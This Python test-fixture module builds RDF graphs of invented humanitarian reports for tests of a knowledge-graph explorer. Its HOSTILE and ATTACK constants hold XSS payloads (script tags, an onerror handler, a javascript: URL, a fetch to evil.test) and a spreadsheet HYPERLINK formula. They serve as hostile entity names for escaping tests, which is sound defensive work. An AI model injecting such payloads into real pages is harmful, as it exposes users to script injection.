"""Graphs for the tests of the explorer: a small ontology, a graph written by hand, and a made-up one of any size."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterable, Iterator
from pathlib import Path

import pyoxigraph as ox

from kg import ontology as onto
from kg.model import Mention, ReportClaims
from kg.ontology import DCT, RDF, RDFS, RG, SKOS, WGS84, XSD, Ontology

BASE = "https://example.org/id/"

ONTOLOGY = """
@prefix rg: <https://w3id.org/reportgraph/ontology#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix owl: <http://www.w3.org/2002/07/owl#> .
@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
"""

CODES = {"Measure": ("baseline", "actual", "target"), "Unit": ("percent",)}
"""The codes that the plots of the package's ontology name."""

CLASSES = {
    "Organization": ("organisation", ()),
    "UNAgency": ("UN agency", ("Organization",)),
    "NGO": ("NGO", ("Organization",)),
    "Government": ("government", ("Organization",)),
    "Donor": ("donor", ("Organization",)),
    "Partner": ("partner", ("Organization",)),
    "Place": ("place", ()),
    "Country": ("country", ("Place",)),
    "Region": ("region", ("Place",)),
    "Settlement": ("settlement", ("Place",)),
    "Programme": ("programme", ()),
    "PopulationGroup": ("population group", ()),
    "Sector": ("sector", ()),
    "ActivityType": ("activity type", ()),
    "Indicator": ("indicator", ()),
    "Measure": ("measure", ()),
    "Unit": ("unit", ()),
    "Status": ("status", ()),
    "Person": ("person", ()),
    "Fact": ("fact", ()),
    "Contribution": ("contribution", ("Fact",)),
    "Funding": ("funding", ("Fact",)),
    "Measurement": ("measurement", ("Fact",)),
    "PopulationFigure": ("population figure", ("Fact",)),
    "Activity": ("activity", ("Fact",)),
    "Presence": ("presence", ("Fact",)),
    "Contact": ("contact", ("Fact",)),
    "Passage": ("passage", ()),
    "Report": ("report", ()),
    "Issue": ("doubt", ()),
}

PROPERTIES = {
    "donor": ("donor", "Organization"),
    "recipient": ("recipient", "Organization"),
    "actor": ("actor", "Organization"),
    "partner": ("partner", "Organization"),
    "funder": ("funder", "Organization"),
    "organization": ("organisation", "Organization"),
    "place": ("place", "Place"),
    "origin": ("origin", "Place"),
    "programme": ("programme", "Programme"),
    "subject": ("subject", None),
    "population": ("population", "PopulationGroup"),
    "sector": ("sector", "Sector"),
    "activityType": ("activity type", "ActivityType"),
    "indicator": ("indicator", "Indicator"),
    "measure": ("measure", "Measure"),
    "unit": ("unit", "Unit"),
    "status": ("status", "Status"),
    "person": ("person", "Person"),
    "within": ("within", "Place"),
    "funds": ("funds", None),
    "partnerOf": ("works with", None),
    "worksIn": ("works in", "Place"),
    "implements": ("implements", "Programme"),
    "assists": ("assists", "PopulationGroup"),
    "hosts": ("hosts", "PopulationGroup"),
    **{name: (label, None) for name, label in [
        ("amount", "amount"), ("currency", "currency"), ("value", "value"), ("item", "item"), ("quantity", "quantity"),
        ("reached", "people reached"), ("required", "required"), ("received", "received"), ("kind", "kind"),
        ("role", "role"), ("percentFunded", "percent funded"),
    ]},
}  # fmt: skip

RULES = {
    "donor": "CONSTRUCT { ?d a rg:Donor } WHERE { ?f a rg:Contribution ; rg:donor ?d }",
    "partner": "CONSTRUCT { ?p a rg:Partner } WHERE { ?f rg:partner ?p }",
    "funds": "CONSTRUCT { ?d rg:funds ?to } WHERE { { ?f a rg:Contribution ; rg:donor ?d ; rg:recipient ?to }"
    " UNION { ?f rg:donor ?d ; rg:programme ?to } UNION { ?f rg:funder ?d ; rg:actor ?to } }",
    "partner-of": "CONSTRUCT { ?a rg:partnerOf ?b . ?b rg:partnerOf ?a } WHERE { ?f rg:actor ?a ; rg:partner ?b }",
    "works-in": "CONSTRUCT { ?o rg:worksIn ?p } WHERE { ?f rg:actor|rg:partner|rg:organization ?o ; rg:place ?p }",
    "assists": "# Whom?\nCONSTRUCT { ?o rg:assists ?g }\nWHERE { ?f rg:actor|rg:partner ?o ; rg:population ?g }",
    "hosts": "CONSTRUCT { ?p rg:hosts ?g } WHERE { ?f a rg:PopulationFigure ; rg:place ?p ; rg:population ?g }",
}


def ontology(folder: Path) -> Ontology:
    """The small ontology, written to a folder and loaded from it."""
    lines = [ONTOLOGY]
    for name, (label, parents) in CLASSES.items():
        lines.append(f'rg:{name} a owl:Class ; rdfs:label "{label}" .')
        lines += [f"rg:{name} rdfs:subClassOf rg:{parent} ." for parent in parents]
    for name, (label, target) in PROPERTIES.items():
        lines.append(f'rg:{name} a owl:ObjectProperty ; rdfs:label "{label}" .')
        if target:
            lines.append(f"rg:{name} rdfs:range rg:{target} .")
    for cls, codes in CODES.items():
        for code in codes:
            lines.append(
                f'<https://example.org/code/{code}> a rg:{cls} ; rdfs:label "{code}" ; skos:notation "{code}" .'
            )
    (folder / "rules").mkdir(parents=True, exist_ok=True)
    (folder / "plots").mkdir(exist_ok=True)
    shutil.copyfile(onto.default_folder() / "plots" / "plots.toml", folder / "plots" / "plots.toml")
    (folder / "reportgraph.ttl").write_text("\n".join(lines), encoding="utf-8")
    for name, rule in RULES.items():
        (folder / "rules" / f"{name}.rq").write_text(f"PREFIX rg: <{RG}>\n{rule}\n", encoding="utf-8")
    return onto.load(folder)


class Graph:
    """Builds quads by the contract: entities, reports, and facts whose evidence is a passage of a report."""

    def __init__(self) -> None:
        self.quads: list[ox.Quad] = []
        self._texts: dict[str, str] = {}
        self._facts = 0

    def add(self, subject: str, predicate: str, *values: object) -> None:
        for value in values:
            self.quads.append(ox.Quad(_node(subject), ox.NamedNode(predicate), _term(value)))

    def entity(
        self,
        name: str,
        cls: str,
        label: str,
        *spellings: str,
        roles: Iterable[str] = (),
        notation: str | None = None,
        point: tuple[float, float] | None = None,
    ) -> Ref:
        self.add(name, RDF + "type", *(ox.NamedNode(RG + c) for c in (cls, *roles)))
        self.add(name, RDFS + "label", label)
        self.add(name, SKOS + "altLabel", *spellings)
        if notation:
            self.add(name, SKOS + "notation", notation)
        if point:
            self.add(name, WGS84 + "lat", point[0])
            self.add(name, WGS84 + "long", point[1])
        return Ref(name)

    def report(self, file: str, title: str, *, publisher: str, issued: str, period: tuple[str, str]) -> str:
        name = f"report/{file}"
        self.add(name, RDF + "type", ox.NamedNode(RG + "Report"))
        self.add(name, RG + "file", file)
        self.add(name, DCT + "title", title)
        self.add(name, DCT + "publisher", ox.NamedNode(BASE + publisher))
        for prop, day in ((DCT + "issued", issued), (RG + "start", period[0]), (RG + "end", period[1])):
            self.add(name, prop, ox.Literal(day, datatype=ox.NamedNode(XSD + "date")))
        self._texts[name] = f"{title} \U0001f30d\n\n"  # a character that takes two units in a browser
        return name

    def claims(self, report: str, *mentions: tuple[str, str]) -> ReportClaims:
        """The report's text, all its passages one a paragraph, with some words in it marked as names of a class."""
        text = self._texts[report]
        marked = tuple(
            Mention(found.start(), found.end(), cls, words)
            for words, cls in mentions
            for found in re.finditer(re.escape(words), text)
        )
        return ReportClaims(report.removeprefix("report/"), "0" * 64, "text", text, (), marked)

    def passage(self, report: str, text: str, page: int = 1, section: str = "") -> str:
        begin = self._texts[report].find(text)
        if begin < 0:
            begin = len(self._texts[report])
            self._texts[report] += text + "\n\n"
        name = f"{report}/passage/{begin}-{begin + len(text)}"
        self.add(name, RDF + "type", ox.NamedNode(RG + "Passage"))
        self.add(name, RG + "document", ox.NamedNode(BASE + report))
        self.add(name, RG + "page", page)
        if section:
            self.add(name, RG + "section", section)
        self.add(name, RG + "beginIndex", begin)
        self.add(name, RG + "endIndex", begin + len(text))
        self.add(name, RG + "text", text)
        return name

    def fact(
        self,
        cls: str,
        label: str,
        evidence: str,
        slots: dict[str, object],
        *,
        period: tuple[str, str] | None = None,
        date_text: str | None = None,
        confidence: float = 0.9,
        rule: str = "table-layout",
    ) -> str:
        self._facts += 1
        name = f"fact/{self._facts:06d}"
        self.add(name, RDF + "type", ox.NamedNode(RG + cls))
        self.add(name, RDFS + "label", label)
        self.add(name, RG + "evidence", ox.NamedNode(BASE + evidence))
        self.add(name, RG + "confidence", confidence)
        self.add(name, RG + "rule", rule)
        if period:
            for prop, day in zip(("start", "end"), period, strict=True):
                self.add(name, RG + prop, ox.Literal(day, datatype=ox.NamedNode(XSD + "date")))
        if date_text:
            self.add(name, RG + "dateText", date_text)
        for slot, value in slots.items():
            for one in value if isinstance(value, list) else [value]:
                self.add(name, RG + slot, one)
        return name

    def link(self, source: str, relation: str, target: str) -> None:
        self.add(source, RG + relation, Ref(target))

    def issue(self, kind: str, label: str, *facts: str) -> None:
        name = f"issue/{kind}-{len(self.quads)}"
        self.add(name, RDF + "type", ox.NamedNode(RG + "Issue"))
        self.add(name, RG + "kind", kind)
        self.add(name, RDFS + "label", label)
        self.add(name, RG + "about", *(Ref(fact) for fact in facts))


class Ref(str):
    """The name of a resource, where a plain string would be a literal."""

    __slots__ = ()


def _node(name: str) -> ox.NamedNode:
    return ox.NamedNode(BASE + name)


def _term(value: object) -> ox.NamedNode | ox.Literal:
    if isinstance(value, Ref):
        return _node(value)
    if isinstance(value, ox.NamedNode | ox.Literal):
        return value
    if isinstance(value, str):
        return ox.Literal(value)
    if isinstance(value, int):
        return ox.Literal(str(value), datatype=ox.NamedNode(XSD + "integer"))
    return ox.Literal(str(value), datatype=ox.NamedNode(XSD + "decimal"))


def small() -> Graph:
    """Two reports of an invented operation: donors, partners, figures, indicators, one doubt, and hostile names."""
    g = Graph()
    agency = g.entity("org/relief-agency", "UNAgency", "River Relief Agency", "RRA")
    nordia = g.entity("org/nordia", "Government", "Nordia", roles=["Donor"])
    sudania = g.entity("org/sudania", "Government", "Kingdom of Sudermark", "Sudermark", roles=["Donor"])
    hands = g.entity("org/hands", "NGO", "Helping Hands Wadara", "HHW", "Hélping Hands", roles=["Partner"])
    water = g.entity("org/water", "NGO", "Water for Villages", "WfV", roles=["Partner"])
    country = g.entity("place/wadara", "Country", "Wadara", "Republic of Wadara", point=(17.0, -4.0))
    north = g.entity("place/taren", "Region", "Taren", point=(19.5, -2.5))
    south = g.entity("place/kosso", "Region", "Kosso", "Kosso Region", point=(13.2, -7.1))
    camp = g.entity("place/belu", "Settlement", "Belu", "Bélu", point=(13.5, -6.2))
    appeal = g.entity("programme/appeal", "Programme", "Wadara Emergency Appeal 2021")
    refugees = g.entity("group/refugees", "PopulationGroup", "refugees", notation="refugees")
    idps = g.entity("group/idps", "PopulationGroup", "internally displaced persons", "IDPs", notation="idps")
    wash = g.entity("sector/wash", "Sector", "water, sanitation and hygiene", "WASH", notation="wash")
    education = g.entity("sector/education", "Sector", "education", notation="education")
    building = g.entity("type/construction", "ActivityType", "construction", notation="construction")
    training = g.entity("type/training", "ActivityType", "training", notation="training")
    latrines = g.entity("indicator/latrines", "Indicator", "Households with a latrine of their own", "4.2")
    actual = g.entity("measure/actual", "Measure", "actual", notation="actual")
    target = g.entity("measure/target", "Measure", "target", notation="target")
    baseline = g.entity("measure/baseline", "Measure", "baseline", notation="baseline")
    percent = g.entity("unit/percent", "Unit", "percent", notation="percent")
    ada = g.entity("person/ada", "Person", "Ada Örn")
    evil = g.entity("org/evil", "NGO", HOSTILE[0], *HOSTILE[1:])

    november, year = ("2021-11-01", "2021-11-30"), ("2021-01-01", "2021-12-31")
    update = g.report("update.md", "Wadara update, November", publisher=agency, issued="2021-12-02", period=november)
    annual = g.report("annual.txt", "Wadara annual report", publisher=agency, issued="2022-03-15", period=year)

    p = g.passage(
        update,
        "In November, RRA and its partner Helping Hands Wadara built 12 latrines in Belu, "
        "Kosso region, for 1,450 refugees and displaced people.",
        2,
        "Water and sanitation",
    )
    built = g.fact(
        "Activity",
        "12 latrines built in Belu",
        p,
        {
            "activityType": building,
            "item": "latrines",
            "quantity": 12,
            "actor": agency,
            "partner": hands,
            "place": [camp, south],
            "reached": 1450,
            "population": [refugees, idps],
            "sector": wash,
        },
        period=november,
        date_text="In November",
        rule="frame-build",
        confidence=0.82,
    )
    p = g.passage(
        update, "Water for Villages trained 36 pump mechanics in Taren with money of Nordia.", 3, "Water and sanitation"
    )
    g.fact(
        "Activity",
        "36 pump mechanics trained in Taren",
        p,
        {
            "activityType": training,
            "item": "pump mechanics",
            "quantity": 36,
            "actor": water,
            "funder": nordia,
            "place": north,
            "sector": wash,
        },
        period=november,
        rule="frame-train",
        confidence=0.74,
    )
    p = g.passage(update, "| Nordia | US$ 1.2 million |", 4, "Donors")
    g.fact(
        "Contribution",
        "Nordia gave USD 1,200,000",
        p,
        {"donor": nordia, "recipient": agency, "amount": 1200000, "currency": "USD", "programme": appeal},
        period=year,
    )
    p = g.passage(annual, "| Kingdom of Sudermark | 350,000 |", 9, "Donors")
    g.fact(
        "Contribution",
        "Kingdom of Sudermark gave USD 350,000",
        p,
        {"donor": sudania, "recipient": agency, "amount": 350000, "currency": "USD"},
        period=year,
    )
    p = g.passage(
        annual, "The appeal asks for USD 5.5 million, of which 1,550,000 (28%) has been received.", 8, "Money"
    )
    g.fact(
        "Funding",
        "Wadara Emergency Appeal 2021: 28 % of USD 5,500,000",
        p,
        {
            "subject": appeal,
            "place": country,
            "required": 5500000,
            "received": 1550000,
            "percentFunded": 28,
            "currency": "USD",
        },
        period=year,
    )
    for day, n_refugees, n_idps in (
        ("2019-12-31", 20100, 65000),
        ("2020-12-31", 24800, 91500),
        ("2021-11-30", 26670, 104250),
    ):
        for group, value in ((refugees, n_refugees), (idps, n_idps)):
            label = "refugees" if group == refugees else "IDPs"
            p = g.passage(annual, f"{label} | {day[:4]} | {value:,}".replace(",", " "), 5, "Figures")
            g.fact(
                "PopulationFigure",
                f"{value:,} {label} in Wadara",
                p,
                {"population": group, "place": country, "value": value},
                period=(day, day),
                date_text=day[:4],
            )
    p = g.passage(update, "Some 3,120 IDPs live in Belu.", 1)
    first = g.fact(
        "PopulationFigure", "3,120 IDPs in Belu", p, {"population": idps, "place": camp, "value": 3120}, period=november
    )
    p = g.passage(annual, "In late 2021 Belu counted 31,200 IDPs.", 5, "Figures")
    second = g.fact(
        "PopulationFigure",
        "31,200 IDPs in Belu",
        p,
        {"population": idps, "place": camp, "value": 31200},
        period=november,
    )
    p = g.passage(annual, "4.2 | Households with a latrine of their own | 31 | 60 | 47.5", 11, "Indicators")
    for measure, value in ((baseline, 31), (target, 60), (actual, 47.5)):
        g.fact(
            "Measurement",
            f"Households with a latrine: {value} %",
            p,
            {
                "indicator": latrines,
                "population": refugees,
                "measure": measure,
                "value": value,
                "unit": percent,
                "place": country,
            },
            period=year,
        )
    p = g.passage(update, "Contact: Ada Örn, head of office, River Relief Agency", 6)
    g.fact("Contact", "Ada Örn, head of office", p, {"person": ada, "role": "head of office", "organization": agency})
    p = g.passage(update, f"{HOSTILE[0]} opened {HOSTILE[1]} in Taren: {ATTACK}", 7)
    g.fact("Presence", HOSTILE[2], p, {"organization": evil, "kind": HOSTILE[4], "place": north})
    for index in range(4):
        p = g.passage(annual, f"School {index + 1} of Kosso received {40 + index} desks.", 7, "Education")
        g.fact(
            "Activity",
            f"{40 + index} desks for school {index + 1}",
            p,
            {"item": "desks", "quantity": 40 + index, "actor": hands, "place": south, "sector": education},
            period=year,
            confidence=0.5,
        )

    g.issue("contradiction", "Two figures for Belu in the same month differ by a factor of ten.", first, second)
    assert built
    for source, relation, goal in [
        (nordia, "funds", agency), (nordia, "funds", appeal), (sudania, "funds", agency), (nordia, "funds", water),
        (agency, "partnerOf", hands), (hands, "partnerOf", agency),
        (agency, "worksIn", camp), (agency, "worksIn", south), (hands, "worksIn", camp), (hands, "worksIn", south),
        (water, "worksIn", north), (evil, "worksIn", north), (agency, "assists", refugees), (agency, "assists", idps),
        (hands, "assists", refugees), (hands, "assists", idps), (country, "hosts", refugees), (country, "hosts", idps),
        (camp, "hosts", idps), (camp, "within", south), (south, "within", country), (north, "within", country),
    ]:  # fmt: skip
        g.link(source, relation, goal)
    return g


def figures() -> Graph:
    """Figures that are easily drawn wrongly, and names that may be the same."""
    g = Graph()
    agency = g.entity("org/agency", "UNAgency", "Lake Agency")
    lake = g.entity("place/lake", "Region", "Lake")
    country = g.entity("place/wadara", "Country", "Wadara")
    east, west = (g.entity(f"place/{name.lower()}", "Country", name) for name in ("Eastland", "Westland"))
    refugees = g.entity("group/refugees", "PopulationGroup", "refugees", notation="refugees")
    total = g.entity("programme/total", "Programme", "Total")
    g.link(lake, "within", country)
    g.add(lake, SKOS + "exactMatch", ox.NamedNode("https://example.org/gazetteer/7"))
    for year in (2020, 2021):
        first = f"{year}-01-01"
        report = g.report(f"{year}.txt", f"Annual {year}", publisher="org/agency", issued=first, period=(first, first))
        for place, origin, value in (
            (country, east, 100 * year),
            (country, west, 10 * year),
            ([lake, country], east, year),
        ):
            text = f"{value} refugees on {first} in {place} from {origin}"
            slots = {"population": refugees, "place": place, "origin": origin, "value": value}
            g.fact("PopulationFigure", text, g.passage(report, text), slots, period=(first, first))
        text = f"Total required in {year}: {1000 * year}, received: {500 * year}"
        slots = {"subject": total, "required": 1000 * year, "received": 500 * year, "currency": "USD"}
        g.fact("Funding", text, g.passage(report, text), slots)
    for name in ("Water Friends", "Water Friends Wadara", "Wuter Friends", "Farmers' Union"):
        ngo = g.entity(f"org/{len(name)}-{name[1]}", "NGO", name, "4.2")
        g.fact("Presence", f"{name} works at Lake", g.passage(report, name), {"organization": ngo, "place": lake})
    assert agency
    return g


ATTACK = "</script><script>fetch('http://evil.test/')</script>"
HOSTILE = (
    "<script>window.hacked = 1</script>",
    "</script><img src=x onerror='window.hacked = 2'>",
    "javascript:window.hacked=3",
    "\"quoted\" & 'single' \u202eright to left\u202c \u2028 end",
    '=HYPERLINK("http://evil.test")',
)
"""Names as a report might print them to get the page to run something."""


def _spread(index: int) -> tuple[float, float]:
    return (-30 + index * 7.3 % 60, -15 + index * 3.7 % 55)


def large(facts: int, names: int) -> Iterator[ox.Quad]:
    """A made-up graph of so many facts and about so many names: hubs, a long tail, a report for every 200 facts."""
    g = Graph()
    groups = [g.entity(f"group/{i}", "PopulationGroup", f"group {i}", notation=f"g{i}") for i in range(12)]
    sectors = [g.entity(f"sector/{i}", "Sector", f"sector {i}", notation=f"s{i}") for i in range(9)]
    kinds = [g.entity(f"type/{i}", "ActivityType", f"type {i}", notation=f"t{i}") for i in range(15)]
    places = orgs = max(30, names // 2)
    where = [
        g.entity(f"place/{i}", "Settlement" if i > 20 else "Region", f"Place {i:05d}", point=_spread(i))
        for i in range(places)
    ]
    who = [g.entity(f"org/{i}", "NGO" if i % 5 else "UNAgency", f"Organisation {i:05d}", f"O{i}") for i in range(orgs)]
    for i in range(1, places):
        g.link(where[i], "within", where[i // 8])
    report = ""
    for i in range(facts):
        if i % 200 == 0:
            number = i // 200
            year = 2015 + number % 8
            report = g.report(
                f"{number:04d}.txt",
                f"Report {number}",
                publisher="org/0",
                issued=f"{year}-12-31",
                period=(f"{year}-01-01", f"{year}-12-31"),
            )
        mix = i * 2654435761 % 2**32  # Knuth's multiplicative hash spreads the choices without a random number
        org = who[int(orgs * ((mix & 0xFFFF) / 0x10000) ** 3)]
        partner = who[mix >> 7 & 0xFFFF and (mix >> 7) % orgs]
        place = where[int(places * ((mix >> 16) / 0x10000) ** 2)]
        group, sector, kind = groups[mix % 12], sectors[mix % 9], kinds[mix % 15]
        quantity = 1 + mix % 4999
        day = f"{2015 + i // 200 % 8}-{1 + mix % 12:02d}-{1 + mix % 28:02d}"
        begin = i % 200 * 120
        text = f"{org} and {partner} delivered {quantity:,} items in {place} to {group}."
        name = f"{report}/passage/{begin}"
        g.add(name, RDF + "type", ox.NamedNode(RG + "Passage"))
        g.add(name, RG + "document", ox.NamedNode(BASE + report))
        g.add(name, RG + "page", 1 + i % 20)
        g.add(name, RG + "beginIndex", begin)
        g.add(name, RG + "endIndex", begin + len(text))
        g.add(name, RG + "text", text)
        if i % 4 == 3:
            g.fact(
                "PopulationFigure",
                f"{quantity:,} people in {place}",
                name,
                {"population": group, "place": place, "value": quantity},
                period=(day, day),
                confidence=0.5 + mix % 50 / 100,
            )
            g.link(place, "hosts", group)
        else:
            g.fact(
                "Activity",
                f"{quantity:,} items in {place}",
                name,
                {
                    "activityType": kind,
                    "item": "items",
                    "quantity": quantity,
                    "actor": org,
                    "partner": partner,
                    "place": place,
                    "population": group,
                    "sector": sector,
                },
                period=(day, day),
                confidence=0.5 + mix % 50 / 100,
            )
            g.link(org, "worksIn", place)
            g.link(partner, "partnerOf", org)
            g.link(org, "partnerOf", partner)
            g.link(org, "assists", group)
    yield from g.quads
